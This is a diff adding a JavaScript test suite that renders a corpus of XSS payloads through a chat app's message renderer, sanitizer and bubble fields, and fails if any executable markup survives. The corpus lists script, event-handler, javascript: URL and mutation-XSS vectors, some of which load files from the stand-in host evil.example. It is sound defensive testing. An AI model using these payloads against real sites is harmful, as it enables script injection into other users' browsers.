@@ -0,0 +1,204 @@
+/**
+ * Renders a corpus of XSS payloads through every message render path on a
+ * jsdom document and fails on anything MessageSanitizer.findUnsafe reports:
+ * MessageRenderer output after sanitizeFragment, sanitizeFragment on parsed
+ * HTML, and ChatSystem bubbles (content, username, edit history, reactions,
+ * reply previews and @mentions).
+ *
+ * The last few payloads are ordinary text that the old send-side pattern
+ * check used to reject.
+ */
+
+const { describe, test, expect, beforeAll } = require('bun:test');
+const { JSDOM } = require('jsdom');
+
+const dom = new JSDOM('<!doctype html><html><body></body></html>', { url: 'http://localhost/' });
+globalThis.window = dom.window;
+globalThis.document = dom.window.document;
+globalThis.localStorage = dom.window.localStorage;
+
+// Browser scripts share globals, so expose each class the way index.html does
+globalThis.buildPushPath = require('../js/push-path');
+require('../config');
+globalThis.FetchScheduler = require('../js/fetch-scheduler');
+globalThis.MessageStore = require('../js/message-store');
+globalThis.Outbox = require('../js/outbox');
+globalThis.DeliveryStateMachine = require('../js/delivery-state');
+globalThis.MessageSearch = require('../js/message-search');
+globalThis.ChatHistory = require('../js/chat-history');
+globalThis.ChatTransport = require('../js/chat-transport');
+globalThis.MessageSanitizer = require('../js/message-sanitizer');
+globalThis.MessageRenderer = require('../js/message-renderer');
+const ChatSystem = require('../js/chat');
+
+const config = window.CONFIG;
+config.log = () => {};
+
+const OWN_WALLET = 'o'.repeat(43);
+
+const XSS_CORPUS = [
+    // Script and event handler injection
+    '<script>alert(1)</script>',
+    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+    '<img src=x onerror=alert(1)>',
+    '<svg onload=alert(1)>',
+    '<svg><script>alert(1)</script></svg>',
+    '<body onload=alert(1)>',
+    '<details open ontoggle=alert(1)>',
+    '<iframe src="javascript:alert(1)"></iframe>',
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    '<object data="javascript:alert(1)"></object>',
+    '<embed src="data:text/html,<script>alert(1)</script>">',
+    '<form action="javascript:alert(1)"><button>go</button></form>',
+    '<input autofocus onfocus=alert(1)>',
+    '<video><source onerror=alert(1)></video>',
+    '<style>@import "//evil.example/x.css";</style>',
+    '<link rel=stylesheet href=//evil.example/x.css>',
+    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+    '<base href="//evil.example/">',
+    '<a href="javascript:alert(1)">click</a>',
+    '<a href="&#106;avascript:alert(1)">click</a>',
+    '<div style="background:url(javascript:alert(1))">x</div>',
+
+    // Breaking out of attributes and the bubble markup
+    '"><script>alert(1)</script>',
+    '\'><img src=x onerror=alert(1)>',
+    '</span><img src=x onerror=alert(1)><span>',
+    '<!--<img src="--><img src=x onerror=alert(1)//">',
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+    '<template><img src=x onerror=alert(1)></template>',
+
+    // URL schemes and auto-linking
+    'javascript:alert(1)',
+    'JaVaScRiPt:alert(1)',
+    'java\u0000script:alert(1)',
+    'vbscript:msgbox(1)',
+    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
+    'https://example.com/"onmouseover="alert(1)',
+    'https://example.com/<img src=x onerror=alert(1)>',
+    'https://example.com/"><svg onload=alert(1)>',
+    'http://javascript:alert(1)',
+    'https://example.com/?q=<script>alert(1)</script>',
+
+    // Formatting syntax wrapped around markup
+    '**<img src=x onerror=alert(1)>**',
+    '*<svg onload=alert(1)>*',
+    '_<iframe src=javascript:alert(1)>_',
+    '`<script>alert(1)</script>`',
+    '```\n<script>alert(1)</script>\n```',
+    '```html"><img src=x onerror=alert(1)>\n<b>x</b>\n```',
+    '**`<img src=x onerror=alert(1)>`** https://example.com/`onload=alert(1)`',
+
+    // Encodings, template syntax and control characters
+    '&lt;script&gt;alert(1)&lt;/script&gt;',
+    '&#60;img src=x onerror=alert(1)&#62;',
+    '${alert(1)}',
+    '{{constructor.constructor(\'alert(1)\')()}}',
+    'innocent\u202Etxt.exe',
+    'zero\u0000width\u0008control\u001Bchars',
+
+    // Legitimate text that used to be blocked on send
+    'set function=callback before the push',
+    'the onload = handler fires after the slot advances',
+    'never paste javascript: URLs into the address bar',
+    'how does <script> injection work?'
+];
+
+let sanitizer;
+let renderer;
+let chat;
+
+beforeAll(() => {
+    sanitizer = new MessageSanitizer(config);
+    renderer = new MessageRenderer(config, sanitizer);
+
+    // No node behind the API: every payload is rendered from local data
+    const api = { config, makeRequest: async () => ({ ok: false, status: 404 }) };
+    chat = new ChatSystem(api, { getWalletAddress: () => OWN_WALLET });
+});
+
+/**
+ * Render text into a detached element and list anything unsafe in it
+ */
+function renderUnsafe(text) {
+    const container = document.createElement('div');
+    container.appendChild(sanitizer.sanitizeFragment(renderer.render(text)));
+    return sanitizer.findUnsafe(container);
+}
+
+/**
+ * The payload in every untrusted field of a bubble, as history messages
+ */
+function bubblePaths(payload, index) {
+    const base = { content: 'xss check', username: 'xss-check', timestamp: Date.now(), id: `${1e9 + index}` };
+    // Reply previews show the parent's author and text
+    chat.quotedMessages.set(`${chat.chatHistory.processId}:${2e9 + index}`, { author: payload, content: payload });
+    return {
+        content: { ...base, content: payload },
+        username: { ...base, username: payload },
+        'edit history': { ...base, content: 'fixed', edited: true, revisions: [{ content: payload, timestamp: 1 }, { content: 'fixed', timestamp: 2 }] },
+        reaction: { ...base, reactions: { [payload]: ['xss-check'] } },
+        'reply preview': { ...base, replyTo: 2e9 + index },
+        mention: { ...base, content: `@${payload} @xss-check`, mentions: [OWN_WALLET] }
+    };
+}
+
+/**
+ * Render a history message as a detached bubble, edit history expanded, and
+ * list anything unsafe in it
+ */
+async function renderBubbleUnsafe(historyMessage) {
+    const message = await chat.prepareHistoryMessage(historyMessage);
+    expect(message).toBeTruthy();
+
+    const messageEl = document.createElement('div');
+    messageEl.className = 'message';
+    chat.expandedEditHistories.add(message.id);
+    chat.updateMessageElement(messageEl, message);
+    return sanitizer.findUnsafe(messageEl);
+}
+
+describe('XSS corpus', () => {
+    test('findUnsafe catches executable markup', () => {
+        const container = document.createElement('div');
+        container.innerHTML = '<img src=x onerror=alert(1)><a href="javascript:alert(1)">x</a>';
+
+        expect(sanitizer.findUnsafe(container).length).toBeGreaterThan(0);
+    });
+
+    test('MessageRenderer.render output is safe after sanitizeFragment', () => {
+        const failures = XSS_CORPUS
+            .map(payload => ({ payload, problems: renderUnsafe(payload) }))
+            .filter(result => result.problems.length > 0);
+
+        expect(failures).toEqual([]);
+    });
+
+    test('sanitizeFragment strips executable markup from parsed HTML', () => {
+        const failures = XSS_CORPUS
+            .map(payload => {
+                const container = document.createElement('div');
+                container.innerHTML = payload;
+                sanitizer.sanitizeFragment(container);
+                return { payload, problems: sanitizer.findUnsafe(container) };
+            })
+            .filter(result => result.problems.length > 0);
+
+        expect(failures).toEqual([]);
+    });
+
+    test('message bubbles render every payload safely', async () => {
+        const failures = [];
+        for (const [index, payload] of XSS_CORPUS.entries()) {
+            for (const [renderPath, historyMessage] of Object.entries(bubblePaths(payload, index))) {
+                const problems = await renderBubbleUnsafe(historyMessage);
+                if (problems.length > 0) {
+                    failures.push({ payload, path: renderPath, problems });
+                }
+            }
+        }
+
+        expect(failures).toEqual([]);
+    });
+});